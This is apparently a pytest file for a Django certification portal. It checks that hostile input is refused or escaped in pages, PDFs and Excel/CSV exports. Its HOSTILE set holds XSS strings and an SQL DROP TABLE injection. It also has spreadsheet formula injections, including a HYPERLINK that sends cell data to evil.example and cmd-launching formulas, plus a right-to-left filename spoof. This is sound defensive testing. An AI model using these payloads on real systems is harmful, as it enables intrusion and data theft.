"""Hostile text typed into names, addresses, work units and reasons (issue #9).

Each value goes in through the real form or service. Where a validator refuses it, the person
reads a clear Chinese message and nothing is stored; where it is accepted, every place that
shows it — the applicant's pages, the admin, the admission ticket PDF, the Excel and CSV
exports — shows it as text: escaped in HTML, drawn as plain text in a PDF, never a formula in a
spreadsheet. Nothing answers with a server error. (test_logs_and_escaping.py has the first
escaping test, of one address on the profile page.)
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from datetime import date, timedelta

import pytest
from django.core.cache import cache
from django.utils import timezone
from django.utils.html import escape
from openpyxl import load_workbook

from applicants.models import Profile
from certificates.models import Certificate
from certificates.pdf import CertificateData, render_certificate_pdf
from certificates.services import import_certificates
from certportal.imports import ImportRefused
from conftest import need
from exams import services as exam_services
from exams.models import ExamApplication

HOSTILE = {
    "script": '<script>alert("x")</script>',
    "img": '"><img src=x onerror=alert(1)>',
    "sql": "'; DROP TABLE applicants_profile; --",
    "long": "长" * 10_000,
    "nul_and_controls": "泉州" + "".join(map(chr, range(0x20))) + "丰泽区",
    "controls": "泉州" + "".join(map(chr, range(0x01, 0x20))) + "丰泽区",
    "rlo": "泉州市\u202egpj.exe",
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "plus_cmd": "+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "at_sum": "@SUM(1+1)*cmd|' /C calc'!A0",
}
# The control characters a spreadsheet cannot hold; tab, line feed and carriage return it can.
XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# What is left of a value once an export has made it safe.
EXPORTED = {
    "script": HOSTILE["script"],
    "img": HOSTILE["img"],
    "sql": HOSTILE["sql"],
    "controls": "泉州\t\n\n丰泽区",  # line breaks as \n, what Excel writes
    "rlo": HOSTILE["rlo"],
    "hyperlink": "'" + HOSTILE["hyperlink"],
    "plus_cmd": "'" + HOSTILE["plus_cmd"],
    "minus": "'" + HOSTILE["minus"],
    "at_sum": "'" + HOSTILE["at_sum"],
}
ACCEPTED_FREE_TEXT = tuple(EXPORTED)
TOO_LONG = "确保该变量包含不超过"
NUL_REFUSED = "不可见的控制字符"
# What a person types into the profile is one plain line: these are refused, with their reason.
PROFILE_REFUSED = {
    "long": TOO_LONG,
    "nul_and_controls": NUL_REFUSED,
    "controls": "含有控制字符（如换行、制表符），请删除后重新输入。",
    "rlo": "含有看不见的格式字符（如从右到左标记、零宽字符），请删除后重新输入。",
}

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def profile_post(client, user, **changes):
    profile = user.profile
    data = {
        "name": profile.name,
        "id_number": profile.id_number,
        "mobile": profile.mobile,
        "education": profile.education,
        "employer_name": profile.employer_name,
        "employer_credit_code": profile.employer_credit_code,
        "address": profile.address,
        **changes,
    }
    return client.post("/me/profile/", data)


def form_errors(response) -> str:
    return " ".join(re.findall(r'<ul class="errorlist[^"]*"[^>]*>(.*?)</ul>', page(response), re.S))


def page(response) -> str:
    assert response.status_code < 500
    return response.content.decode()


def assert_shown_as_text(html: str, value: str, *, shown: bool = True) -> None:
    """No markup of ``value`` reaches the page; when ``shown``, it is there, escaped."""
    for raw in ("<script>alert", "<img src=x", "onerror=alert(1)>"):
        if raw in value:
            assert raw not in html
    if shown:
        # Line breaks may come back as <br>; control characters are not compared.
        invisible = re.compile(r"[\x00-\x1f]+|<br>")
        assert invisible.sub("", escape(value)) in invisible.sub("", html)


def admin_action(client, url, action, pks, **extra):
    data = {"action": action, "_selected_action": [str(pk) for pk in pks], **extra}
    return client.post(url, data)


def read_xlsx(response):
    assert response.status_code == 200, page(response)
    assert response["Content-Type"] == XLSX
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


def assert_safe_sheet(rows) -> None:
    """No formula cell, no text cell that a spreadsheet would run, no illegal character."""
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_START), cell.value
                assert not XML_ILLEGAL.search(cell.value)


def pdftotext(data: bytes, tmp_path) -> str:
    need(shutil.which("pdftotext") is not None, "poppler-utils")
    path = tmp_path / "doc.pdf"
    path.write_bytes(data)
    result = subprocess.run(
        ["pdftotext", "-enc", "UTF-8", str(path), "-"], capture_output=True, check=True, timeout=30
    )
    return result.stdout.decode("utf-8")


# Names: refused by the validator, each with its own message ----------------------------------

NAME_MESSAGES = {
    "script": "姓名中不能含有 HTML 标记或 <、>、& 等符号。",
    "img": "姓名中不能含有 HTML 标记或 <、>、& 等符号。",
    "sql": TOO_LONG,
    "long": TOO_LONG,
    "nul_and_controls": NUL_REFUSED,
    "controls": TOO_LONG,
    "rlo": "姓名中含有看不见的格式字符（如从右到左标记、零宽字符），请删除后重新输入。",
    "hyperlink": TOO_LONG,
    "plus_cmd": "姓名中不能含有空格，请按身份证上的姓名连续填写。",
    "minus": "姓名中不能含有数字。",
    "at_sum": "姓名中不能含有空格，请按身份证上的姓名连续填写。",
}


@pytest.mark.django_db
@pytest.mark.parametrize("key", HOSTILE)
def test_hostile_name_is_refused_with_a_clear_message_and_nothing_stored(client, candidate, key):
    client.force_login(candidate)

    response = profile_post(client, candidate, name=HOSTILE[key])

    assert response.status_code == 200
    assert escape(NAME_MESSAGES[key]) in form_errors(response)
    assert Profile.objects.get(user=candidate).name == "王小明"


@pytest.mark.django_db
def test_short_hostile_names_reach_the_name_validator(client, candidate):
    # The form's length limit answers first for most of the corpus; these fit in 30
    # characters, so the validator's own message is what the person reads.
    client.force_login(candidate)
    for name, message in (
        ("王小明\x07", "姓名中含有控制字符，请删除后重新输入。"),
        ("'王小明';--", "姓名中不能含有标点或符号“'”；少数民族姓名请用间隔号“·”分隔。"),
        ("=王小明", "姓名中不能含有标点或符号“=”；少数民族姓名请用间隔号“·”分隔。"),
    ):
        response = profile_post(client, candidate, name=name)
        assert escape(message) in form_errors(response), name
    assert Profile.objects.get(user=candidate).name == "王小明"


def test_nul_character_message_is_clear_chinese():
    from django.core.validators import ProhibitNullCharactersValidator
    from django.utils.translation import override

    with override("zh-hans"):
        message = str(ProhibitNullCharactersValidator.message)
    assert NUL_REFUSED in message and "空字符串" not in message


@pytest.mark.django_db
def test_legacy_import_refuses_hostile_names_row_by_row_and_stores_nothing(authority_staff):
    names = [HOSTILE[k] for k in ("script", "img", "sql", "rlo", "hyperlink", "minus")]
    lines = ["证书编号,姓名,身份证号,工种代码,初次领证日期,发证日期,有效期起,有效期至,发证机关"]
    lines += [
        f'闽C0120200000{n:02d},"{name.replace(chr(34), chr(34) * 2)}",350503198801011235,'
        "01,2020-01-01,2024-01-01,2024-01-01,2026-01-01,350500"
        for n, name in enumerate(names)
    ]

    with pytest.raises(ImportRefused) as refused:
        import_certificates(
            data="\n".join(lines).encode(), filename="legacy.csv", actor=authority_staff
        )

    by_row = {e.row: e.message for e in refused.value.errors if e.column == "姓名"}
    assert sorted(by_row) == list(range(2, 2 + len(names)))
    assert "HTML 标记" in by_row[2] and "格式字符" in by_row[5] and "数字" in by_row[7]
    assert not Certificate.objects.exists()


# Addresses and work units: accepted as typed, shown as text ---------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("key", HOSTILE)
def test_hostile_address_and_work_unit_are_stored_as_typed_or_refused_clearly(
    client, candidate, superuser, key
):
    value = HOSTILE[key]
    client.force_login(candidate)

    response = profile_post(client, candidate, address=value, employer_name=value)

    profile = Profile.objects.get(user=candidate)
    if key in PROFILE_REFUSED:
        assert response.status_code == 200
        assert form_errors(response).count(PROFILE_REFUSED[key]) == 2  # both fields
        assert (profile.address, profile.employer_name) == ("", "")
        return
    assert response.status_code == 302
    assert (profile.address, profile.employer_name) == (value, value)
    assert_shown_as_text(page(client.get("/me/profile/")), value)
    assert_shown_as_text(page(client.get("/me/")), value, shown=False)
    client.force_login(superuser)
    for url in (
        "/admin/applicants/profile/",
        f"/admin/applicants/profile/{profile.pk}/change/",
        f"/admin/applicants/profile/?q={value[:20]}",
    ):
        html = page(client.get(url))
        assert_shown_as_text(html, value)


# Reasons typed by staff: shown to the applicant as text ---------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("key", ["script", "img", "long", "nul_and_controls", "rlo", "hyperlink"])
def test_hostile_return_reason_reaches_the_applicant_as_text(
    client, institution_approved, authority_staff, key
):
    value = HOSTILE[key]
    application = institution_approved
    changelist = "/admin/exams/examapplication/"
    client.force_login(authority_staff)

    response = admin_action(
        client, changelist, "return_for_correction", [application.pk], apply="1", reason=value
    )

    application.refresh_from_db()
    if key in ("long", "nul_and_controls"):
        assert response.status_code == 200
        assert (NUL_REFUSED if key == "nul_and_controls" else TOO_LONG) in page(response)
        assert application.status == ExamApplication.Status.INSTITUTION_APPROVED
        assert application.status_reason == ""
        return
    assert response.status_code == 302
    assert application.status == ExamApplication.Status.RETURNED
    assert application.status_reason == value
    assert_shown_as_text(page(client.get(f"{changelist}{application.pk}/change/")), value)
    client.force_login(application.applicant)
    assert_shown_as_text(page(client.get(f"/me/applications/{application.pk}/")), value)


# Exports: Excel from the admin, CSV error reports ----------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("key", ACCEPTED_FREE_TEXT)
def test_application_export_neutralises_formulas_and_masks_id_numbers(
    client, institution_approved, authority_staff, key
):
    value = HOSTILE[key]
    application = institution_approved
    applicant = application.applicant
    if key in PROFILE_REFUSED:
        # The profile form refuses it now; rows saved before that rule (or imported) may
        # still hold it, and the export must still make it safe.
        Profile.objects.filter(user=applicant).update(address=value, employer_name=value)
    else:
        client.force_login(applicant)
        response = profile_post(client, applicant, address=value, employer_name=value)
        assert response.status_code == 302
    client.force_login(authority_staff)
    changelist = "/admin/exams/examapplication/"
    admin_action(
        client, changelist, "return_for_correction", [application.pk], apply="1", reason=value
    )

    rows = read_xlsx(admin_action(client, changelist, "export_xlsx", [application.pk]))

    assert_safe_sheet(rows)
    header, values = [c.value for c in rows[0]], [c.value for c in rows[1]]
    record = dict(zip(header, values, strict=True))
    assert len(rows) == 2
    assert record["报名编号"] == application.pk
    assert record["通讯地址"] == EXPORTED[key]
    assert record["工作单位"] == EXPORTED[key]
    assert record["退回或不予受理原因"] == EXPORTED[key]
    assert rows[1][header.index("通讯地址")].data_type == "s"
    id_number = applicant.profile.id_number
    assert record["公民身份号码"] == f"{id_number[:4]}**********{id_number[-4:]}"
    assert not [v for v in values if isinstance(v, str) and id_number in v]


@pytest.mark.django_db
def test_certificate_export_writes_safe_cells_real_dates_and_masked_id_numbers(
    client, certificate, authority_staff
):
    holder = certificate.holder
    client.force_login(holder)
    profile_post(client, holder, employer_name=HOSTILE["hyperlink"])
    client.force_login(authority_staff)
    changelist = "/admin/certificates/certificate/"
    # A reason holding an ID number is refused now; one recorded before that rule is still
    # masked in the export.
    reason = f"{HOSTILE['at_sum']} 持证人身份证号 {certificate.holder_id_number} 冒用"
    refused = client.post(
        changelist,
        {"action": "suspend", "_selected_action": [certificate.pk], "apply": "1", "reason": reason},
        follow=True,
    )
    assert "不要填写身份证号码" in refused.content.decode()
    assert Certificate.objects.get(pk=certificate.pk).status == "01"
    admin_action(
        client, changelist, "suspend", [certificate.pk], apply="1", reason=HOSTILE["at_sum"]
    )
    Certificate.objects.filter(pk=certificate.pk).update(status_reason=reason)

    rows = read_xlsx(admin_action(client, changelist, "export_xlsx", [certificate.pk]))

    assert_safe_sheet(rows)
    header = [c.value for c in rows[0]]
    record = dict(zip(header, [c.value for c in rows[1]], strict=True))
    id_number = certificate.holder_id_number
    masked = f"{id_number[:4]}**********{id_number[-4:]}"
    assert record["证书编号"] == certificate.number
    assert record["公民身份号码"] == masked
    assert record["工作单位"] == "'" + HOSTILE["hyperlink"]
    assert record["状态"] == "暂扣"
    assert record["状态变更原因"] == f"'{HOSTILE['at_sum']} 持证人身份证号 {masked} 冒用"
    assert record["有效期至"].date() == certificate.valid_until
    assert rows[1][header.index("有效期至")].is_date
    assert id_number not in str([c.value for c in rows[1]])


@pytest.mark.django_db
def test_exports_hold_only_the_rows_the_staff_member_may_see(
    client, certificate, authority_staff, other_authority_staff, other_institution_staff
):
    from certportal.models import AuditEvent

    application = certificate.application
    for user, certificates, applications in (
        (authority_staff, 1, 1),
        (other_authority_staff, 0, 0),
        (other_institution_staff, None, 0),
    ):
        client.force_login(user)
        for url, pk, expected in (
            ("/admin/certificates/certificate/", certificate.pk, certificates),
            ("/admin/exams/examapplication/", application.pk, applications),
        ):
            response = admin_action(client, url, "export_xlsx", [pk], select_across="1")
            if expected is None:  # no access to the list at all
                assert response.status_code == 403
                continue
            assert len(read_xlsx(response)) == 1 + expected, (user, url)

    events = AuditEvent.objects.filter(action="certificates.certificate.exported")
    assert [(e.actor_id, e.data["rows"]) for e in events.order_by("pk")] == [
        (authority_staff.pk, 1),
        (other_authority_staff.pk, 0),
    ]


@pytest.mark.django_db
def test_score_import_error_report_neutralises_hostile_headers_and_cells(
    client, scheduled, assessor
):
    from tests.exams.fixtures import hold

    hold(scheduled.session)
    formulas = [HOSTILE[k] for k in ("hyperlink", "plus_cmd", "minus", "at_sum")]
    header = ["准考证号", "身份证号", "理论成绩", "实操成绩", *formulas]
    body = [scheduled.ticket_number, HOSTILE["script"], formulas[0], formulas[2], "", "", "", ""]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, body])
    upload = io.BytesIO(buffer.getvalue().encode())
    upload.name = "scores.csv"
    client.force_login(assessor)

    response = client.post(
        f"/admin/exams/examsession/{scheduled.session_id}/import-scores/",
        {"file": upload, "report_csv": "on"},
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert table[0] == ["行号", "列", "错误"]
    cells = [cell for row in table for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    quoted = {row[1] for row in table[1:]}
    assert {"'" + (f if len(f) <= 40 else f[:40] + "…") for f in formulas} <= quoted
    scheduled.refresh_from_db()
    assert scheduled.theory_score is None


# PDFs: hostile text drawn as plain text -------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("key", "venue", "printed"),
    [
        ("script", HOSTILE["script"], HOSTILE["script"]),
        ("img", HOSTILE["img"], HOSTILE["img"]),
        ("controls", HOSTILE["controls"], "泉州丰泽区"),
        ("rlo", HOSTILE["rlo"], "泉州市gpj.exe"),
        ("hyperlink", HOSTILE["hyperlink"], HOSTILE["hyperlink"]),
        ("longest allowed", "考" * 200, "考" * 200),
    ],
)
def test_admission_ticket_renders_a_hostile_venue_as_plain_text(
    approved,
    assessor,
    authority_staff,
    crane,
    centre,
    tmp_path,
    django_capture_on_commit_callbacks,
    key,
    venue,
    printed,
):
    now = timezone.now()
    session = exam_services.session_create(
        actor=assessor,
        name=HOSTILE["script"],
        trade=crane,
        assessment_institution=centre,
        theory_at=now + timedelta(days=14),
        practical_at=now + timedelta(days=15),
        venue=venue,
        capacity=5,
    )
    exam_services.session_submit(session=session, actor=assessor)
    exam_services.session_approve(session=session, actor=authority_staff)

    with django_capture_on_commit_callbacks(execute=True):
        exam_services.session_assign(session=session, actor=assessor, applications=[approved])

    approved.refresh_from_db()
    assert approved.ticket_pdf, "the ticket was not rendered"
    text = pdftotext(approved.ticket_pdf.read(), tmp_path).rstrip("\f")  # pdftotext's page end
    assert "".join(printed.split()) in "".join(text.split())
    assert "\u202e" not in text and not XML_ILLEGAL.search(text)


def test_certificate_pdf_draws_hostile_text_as_plain_text(tmp_path):
    # Names are refused by the validator before they reach a certificate; the renderer is
    # still robust on its own: markup is drawn as characters, invisible ones are left out.
    data = CertificateData(
        number="闽C052026000001",
        name="王<b>明\u202e",
        sex="男",
        trade_name=HOSTILE["img"],
        first_issued_on=date(2020, 6, 15),
        valid_from=date(2026, 12, 1),
        valid_until=date(2028, 11, 30),
        authority_name="泉州市" + HOSTILE["controls"],
        issued_on=date(2026, 11, 28),
        ecert_identifier=HOSTILE["hyperlink"],
        verify_url="https://zjt.example.gov.cn/v/3q2-kT9xYzA7LmN0pQabcdef/",
        photo=None,
    )

    text = "".join(pdftotext(render_certificate_pdf(data), tmp_path).split())

    for printed in ("王<b>明", HOSTILE["img"], "泉州市泉州丰泽区", HOSTILE["hyperlink"]):
        assert "".join(printed.split()) in text
    assert "\u202e" not in text


# Public verification and admin search: no server error, nothing echoed as markup -------------


@pytest.mark.django_db
@pytest.mark.parametrize("key", HOSTILE)
def test_public_lookup_with_hostile_input_answers_without_server_error(client, settings, key):
    settings.VERIFY_RATE_LIMIT = "1000/m"
    cache.clear()
    value = HOSTILE[key]

    for response in (
        client.get("/verify/", {"cert_no": value, "name": value}),
        client.post("/verify/", {"name": value, "id_number": value}),
        client.get("/api/v1/verify", {"cert_no": value, "name": value}),
        client.post(
            "/api/v1/verify", {"name": value, "id_number": value}, content_type="application/json"
        ),
    ):
        assert response.status_code in (200, 400), (response.status_code, key)
        assert_shown_as_text(page(response), value, shown=False)
    cache.clear()


@pytest.mark.django_db
@pytest.mark.parametrize("key", HOSTILE)
def test_admin_search_with_hostile_text_answers_without_server_error(client, authority_staff, key):
    client.force_login(authority_staff)
    for url in (
        "/admin/certificates/certificate/",
        "/admin/exams/examapplication/",
        "/admin/exams/examsession/",
        "/admin/applicants/profile/",
    ):
        response = client.get(url, {"q": HOSTILE[key]})
        assert response.status_code == 200, (url, response.status_code)
        assert_shown_as_text(page(response), HOSTILE[key], shown=False)
